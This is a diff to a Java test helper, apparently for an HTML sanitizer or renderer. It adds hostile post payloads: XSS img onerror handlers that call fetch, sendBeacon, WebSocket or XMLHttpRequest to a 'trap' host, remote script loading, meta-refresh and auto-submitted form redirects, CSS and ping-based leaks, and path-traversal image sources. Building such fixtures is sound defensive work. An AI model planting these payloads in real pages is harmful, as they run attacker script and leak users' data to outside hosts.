@@ -48,6 +48,27 @@ final class HostilePosts {
     return posts;
   }
 
+  /** Posts that would take the page itself elsewhere, and with it whatever else is on it. */
+  static List<String> leaving(String trap) {
+    List<String> posts = new ArrayList<>();
+    for (String payload :
+        List.of(
+            "<meta http-equiv=refresh content=\"0;url=" + trap + "/refresh\">",
+            "<img src=x onerror=\"location.href='" + trap + "/location'\">",
+            "<form id=f action=\""
+                + trap
+                + "/form\"></form>"
+                + "<img src=x onerror=\"document.getElementById('f').submit()\">",
+            "<a id=a href=\""
+                + trap
+                + "/link\">x</a>"
+                + "<img src=x onerror=\"document.getElementById('a').click()\">")) {
+      posts.add(payload + "\n");
+      posts.add("text " + payload + "\n");
+    }
+    return posts;
+  }
+
   private static List<String> words(String trap) {
     return List.of(
         "<img src=x onerror=\"" + RUN + "\">",
@@ -71,6 +92,30 @@ final class HostilePosts {
         "<img src=\"/%2e%2e/" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
         "<img src=\"/link/" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
         "<img src=\"" + decoy.replace("file://", "") + "\">",
+        "<img src=\"/link/sub/../" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
+        "<img src=x onerror=\"fetch('" + trap + "/fetch')\">",
+        "<img src=x onerror=\"navigator.sendBeacon('" + trap + "/beacon')\">",
+        "<img src=x onerror=\"new WebSocket('" + trap.replace("http", "ws") + "/socket')\">",
+        "<img src=x onerror=\"var x=new XMLHttpRequest();x.open('GET','"
+            + trap
+            + "/x');x.send()\">",
+        "<img src=x onerror=\"new EventSource('" + trap + "/events')\">",
+        "<img src=x onerror=\"var s=document.createElement('script');s.src='"
+            + trap
+            + "/late.js';document.head.appendChild(s)\">",
+        "<style>@font-face{font-family:t;src:url("
+            + trap
+            + "/font.woff)}</style><p style=\"font-family:t\">x</p>",
+        "<p style=\"list-style:url(" + trap + "/l.png);display:list-item\">x</p>",
+        "<input type=image src=\"" + trap + "/in.png\">",
+        "<picture><source srcset=\""
+            + trap
+            + "/ps.png\"><img src=\""
+            + trap
+            + "/pi.png\"></picture>",
+        "<img src=\"" + trap.substring("http:".length()) + "/noscheme.png\">",
+        "<img data-src=\"" + trap + "/lazy.png\" data-lqip=\"true\">",
+        "<a href=\"" + trap + "/ping\" ping=\"" + trap + "/pinged\">x</a>",
         "<img src=\"jar:" + decoy + "!/a.png\">",
         "<svg onload=\"" + RUN + "\"></svg>",
         "<svg><script>" + RUN + "</script></svg>",
@@ -91,7 +136,6 @@ final class HostilePosts {
         "<style>@import '" + trap + "/i.css'; body{background:url(" + trap + "/b.png)}</style>",
         "<div style=\"background-image:url('" + trap + "/d.png')\">x</div>",
         "<div style=\"width:expression(" + RUN + ")\">x</div>",
-        "<meta http-equiv=refresh content=\"0;url=" + trap + "/r\">",
         "<base href=\"" + trap + "/\"><img src=rel.png>",
         "<form action=\"" + trap + "/q\"><input name=a autofocus onfocus=\"" + RUN + "\"></form>",
         "<input autofocus onfocus=\"" + RUN + "\">",
